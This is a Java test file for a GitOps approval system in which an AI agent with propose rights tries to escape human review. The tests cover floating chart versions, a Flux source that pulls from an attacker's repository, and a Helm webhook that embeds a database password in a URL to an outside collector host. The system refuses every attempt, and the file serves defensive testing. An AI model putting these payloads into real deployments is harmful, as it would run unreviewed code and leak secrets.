package dev.countersign.gitops.issues;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.countersign.gitops.ActionDeniedException;
import dev.countersign.gitops.GitOpsRepository;
import dev.countersign.gitops.Proposal;
import dev.countersign.gitops.ProposalState;
import dev.countersign.gitops.Secrets;
import dev.countersign.gitops.testing.Processes;
import dev.countersign.policy.Principal;
import dev.countersign.sops.AgeIdentity;
import dev.countersign.stack.FloatingVersionException;
import dev.countersign.stack.Stack;
import dev.countersign.stack.StackFiles;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Issue 17, from the attacker's side: an agent with the propose verb tries the three ways out of the reviewed
 * text the issue found, through the gitops API. Each is refused at {@code propose} with a message a reviewer
 * understands, and nothing lands: the repository's refs and objects are exactly as before.
 */
class Issue17Test {
    private static final Principal AGENT = Principal.agent("builder").actingFor(Principal.human("dave"));
    private static final Principal ALICE = Principal.human("alice");
    private static final Principal BOB = Principal.human("bob");
    private static final String POLICY = """
            apiVersion: countersign.dev/v1
            kind: Policy
            metadata: {name: acme}
            spec:
              roles:
                member:   [read, propose, withdraw]
                approver: [read, propose, withdraw, approve, reject, record, revert]
              bindings:
                - {principal: "human:alice", roles: [approver], environments: ["*"]}
                - {principal: "human:bob",   roles: [approver], environments: ["*"]}
                - {principal: "human:dave",  roles: [member],   environments: ["*"]}
                - {principal: "agent:builder", roles: [member], environments: ["*"]}
              environments:
                staging: {approvals: {required: 1, from: [approver]}}
            """;
    private static final String STAGING = """
            apiVersion: countersign.dev/v1
            kind: Environment
            metadata: {name: staging}
            spec: {cluster: staging-eu}
            """;

    @TempDir
    Path directory;

    private GitOpsRepository repo;

    @AfterEach
    void close() {
        if (repo != null) {
            repo.close();
        }
    }

    private GitOpsRepository open() {
        AgeIdentity key = AgeIdentity.generate(new SecureRandom());
        repo = GitOpsRepository.open(
                directory, Clock.fixed(Instant.parse("2026-11-24T10:00:00Z"), ZoneOffset.UTC), new SecureRandom());
        repo.initialize(
                ALICE, POLICY, List.of(StackFiles.parseEnvironment(STAGING, "staging.yaml")), List.of(key.recipient()));
        return repo;
    }

    @ParameterizedTest
    @ValueSource(strings = {"\"*\"", "\">=1.0.0\"", "\"1.x\"", "latest", "\"\"", "\"^1.2.0\"", "\"~1.2\""})
    void aFloatingChartVersionIsRefusedBeforeAnythingIsProposed(String version) throws Exception {
        open();
        String before = refsAndObjects();

        assertThatThrownBy(() ->
                        repo.proposer(AGENT).propose("staging", web("version: " + version, ""), "bump", List.of()))
                .isInstanceOfSatisfying(FloatingVersionException.class, e -> {
                    assertThat(e.component()).isEqualTo("api");
                    assertThat(e.getMessage())
                            .contains("api")
                            .contains("is not an exact version")
                            .contains("what runs would not be what was approved")
                            .contains("/spec/components/0/helm/version");
                });
        assertThat(refsAndObjects()).isEqualTo(before);
    }

    @Test
    void aFloatingVersionHiddenInAVariableIsRefusedAtPropose() throws Exception {
        open();
        String before = refsAndObjects();
        Stack stack = web("version: \"${chart_version}\"", "variables: {chart_version: \"*\"}");

        assertThatThrownBy(() -> repo.proposer(AGENT).propose("staging", stack, "bump", List.of()))
                .isInstanceOf(FloatingVersionException.class)
                .hasMessageContaining("'*'");
        assertThat(repo.proposals(null)).isEmpty();
        assertThat(refsAndObjects()).isEqualTo(before);
    }

    @Test
    void aFluxSourcePointingAtTheAttackersRepositoryIsRefusedNamingIt() throws Exception {
        open();
        String before = refsAndObjects();
        Stack payload = StackFiles.parseStack("""
                apiVersion: countersign.dev/v1
                kind: Stack
                metadata: {name: tools}
                spec:
                  components:
                    - name: sync
                      manifests:
                        - apiVersion: source.toolkit.fluxcd.io/v1
                          kind: GitRepository
                          metadata: {name: payload, namespace: flux-system}
                          spec: {interval: 1m, url: "https://github.com/attacker/payload", ref: {branch: main}}
                        - apiVersion: kustomize.toolkit.fluxcd.io/v1
                          kind: Kustomization
                          metadata: {name: payload, namespace: flux-system}
                          spec:
                            interval: 1m
                            prune: true
                            path: ./
                            sourceRef: {kind: GitRepository, name: payload}
                """, "tools.yaml");

        assertThatThrownBy(() -> repo.proposer(AGENT).propose("staging", payload, "add tools", List.of()))
                .isInstanceOfSatisfying(ActionDeniedException.class, e -> {
                    assertThat(e.rule()).isEqualTo("reviewed-sources");
                    assertThat(e.getMessage())
                            .contains("GitRepository/flux-system/payload")
                            .contains("https://github.com/attacker/payload")
                            .contains("content no reviewer saw")
                            .contains("Kustomization/flux-system/payload");
                });
        assertThat(refsAndObjects()).isEqualTo(before);
    }

    @Test
    void aSecretCarriedToAnotherHostInAHelmValueIsRefusedNamingTheVariableAndThePointer() throws Exception {
        open();
        Proposal first = repo.proposer(BOB)
                .propose("staging", shop(""), Secrets.of(Map.of("db_password", "pw-s3cr3t-value")), "db", List.of());
        assertThat(repo.reviewer(ALICE).approve(first.id()).state()).isEqualTo(ProposalState.RECORDED);
        String before = refsAndObjects();
        Stack exfiltrating = shop("webhook: \"https://collector.example.net/hook?k=${db_password}\"");

        assertThatThrownBy(() -> repo.proposer(AGENT).propose("staging", exfiltrating, "add a webhook", List.of()))
                .isInstanceOfSatisfying(ActionDeniedException.class, e -> {
                    assertThat(e.rule()).isEqualTo("secret-confinement");
                    assertThat(e.getMessage())
                            .contains("db_password")
                            .contains("/helm/values/webhook")
                            .doesNotContain("pw-s3cr3t-value");
                });
        assertThat(refsAndObjects()).isEqualTo(before);
    }

    private static Stack web(String version, String variables) {
        return StackFiles.parseStack("""
                apiVersion: countersign.dev/v1
                kind: Stack
                metadata: {name: web}
                spec:
                  %s
                  components:
                    - name: api
                      helm: {repository: oci://ghcr.io/acme/charts, chart: api, %s, namespace: web}
                """.formatted(variables, version), "web.yaml");
    }

    private static Stack shop(String extraValue) {
        return StackFiles.parseStack("""
                apiVersion: countersign.dev/v1
                kind: Stack
                metadata: {name: shop}
                spec:
                  components:
                    - name: db
                      manifests:
                        - apiVersion: v1
                          kind: Secret
                          metadata: {name: db, namespace: shop}
                          type: Opaque
                          stringData: {password: "${db_password}"}
                    - name: api
                      dependsOn: [db]
                      helm:
                        repository: https://charts.example.com
                        chart: api
                        version: 1.0.0
                        namespace: shop
                        values: {replicas: 1, %s}
                """.formatted(extraValue), "shop.yaml");
    }

    /** Every ref with its target and every object id: what "nothing landed" is checked against. */
    private String refsAndObjects() throws Exception {
        String refs = Processes.run(directory, "git", "--git-dir=" + directory, "for-each-ref")
                .out();
        String objects = Processes.run(
                        directory, "git", "--git-dir=" + directory, "cat-file", "--batch-all-objects", "--batch-check")
                .out();
        assertThat(refs).contains("refs/heads/main");
        return refs + objects;
    }
}
